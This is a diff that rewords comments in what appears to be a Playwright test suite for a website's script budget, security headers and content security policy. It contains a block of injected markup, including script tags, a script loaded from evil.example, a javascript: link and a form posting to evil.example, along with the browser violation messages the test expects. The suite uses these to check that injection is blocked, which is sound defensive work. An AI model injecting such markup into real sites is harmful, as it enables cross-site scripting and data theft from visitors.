@@ -5,13 +5,13 @@ import { readBuilt } from '#web/site/read-page.ts'
 import { securityHeaders } from '#worker/middleware/security-headers.ts'
 import { expect, OPERATOR_TOKEN, test, visit } from './fixtures.ts'
 
-/** React, the router, and what every page needs of ours, compressed by brotli. */
+/** React, the router and our code for every page, compressed by brotli. */
 const SCRIPT_BUDGET = 115_000
 
-/** What only the code of forms, their requests and their toasts holds. */
+/** Strings that only the code of forms, their requests and their toasts contains. */
 const FORM_CODE = ['networkMode', '/api/subscribe', 'swipeThreshold']
 
-/** Every script that a page asks for, up to the point where it asks for no more. */
+/** Every script that a page requests, until it requests no more. */
 async function scriptsOf(page: Page, path: string): Promise<string[]> {
   await visit(page, path)
   await page.waitForLoadState('networkidle')
@@ -32,7 +32,7 @@ test('the home page costs at most 115 KB of script, the code of forms comes wher
   expect(bytes.length).toBeGreaterThan(0)
   expect(bytes.reduce((sum, size) => sum + size, 0)).toBeLessThanOrEqual(SCRIPT_BUDGET)
 
-  // The manifest comes with the app: in the file it would put off the largest paint.
+  // The app adds the manifest: in the file it would delay the largest paint.
   await expect(page.locator('link[rel=manifest]')).toHaveAttribute('href', '/site.webmanifest')
 
   const blog = await scriptsOf(page, '/blog')
@@ -48,8 +48,8 @@ const [alias] = Object.keys(loadContent().catalogue.aliases)
 const operator = { Authorization: `Bearer ${OPERATOR_TOKEN}` }
 
 /**
- * One answer of every kind that the platform gives of files, and one of the Worker in each format; its
- * others: worker/test/hostile/contract.ts. `:asset` stands for a file of the build.
+ * One response of every kind from the platform's files, and one of the Worker in each format; for its
+ * others see worker/test/hostile/contract.ts. `:asset` stands for a file of the build.
  */
 const ANSWERS: [status: number, path: string, ask?: Ask][] = [
   [200, '/', { type: /html/ }],
@@ -80,7 +80,7 @@ test('every kind of answer carries the one definition of the policy, and no cook
 }) => {
   const asset = /\/assets\/[\w.-]+\.js/.exec(await (await request.get('/')).text())?.[0] ?? ''
   const { 'Content-Security-Policy': bare, ...others } = securityHeaders()
-  // What a page may load in addition, its own policy names: scripts, styles, and what the settings add.
+  // A page's own policy names its further sources: scripts, styles, and those from the settings.
   const directives = bare.split('; ').filter((each) => !/^(?:trusted-types|connect-src)/.test(each))
 
   async function check(status: number, path: string, { type, ...ask }: Ask = {}) {
@@ -133,7 +133,7 @@ test('SEO files have their content type, and only Markdown alternates and previe
   }
 })
 
-/** What somebody might slip into a page, all of which would change its title or ask another host. */
+/** Injected markup; each line would change the page's title or send a request to another host. */
 const HOSTILE = `
   <script>document.title = 'hacked'</script>
   <script src="https://evil.example/script.js"></script>
@@ -147,7 +147,7 @@ const HOSTILE = `
   <a id="link" href="javascript:document.title = 'hacked'">Link</a>
   <form action="https://evil.example/form"><button id="form">Form</button></form>`
 
-/** What the browser has to say of that, and of what the test's own code tries. */
+/** The browser's messages about that markup, and about the attempts of the test's own code. */
 const BLOCKED = [
   'base-uri https://evil.example/',
   'connect-src https://evil.example/fetch',
@@ -198,7 +198,7 @@ test.describe('the policy', () => {
       const reported = page.waitForResponse('/api/policy-reports')
 
       await page.goto(path)
-      // As somebody would who got this far: the page's own script may not do it, either.
+      // Simulates a successful injection: even the page's own script must not be able to do it.
       for (const id of ['handler', 'link', 'form']) {
         await page.evaluate((each) => document.getElementById(each)?.click(), id)
       }
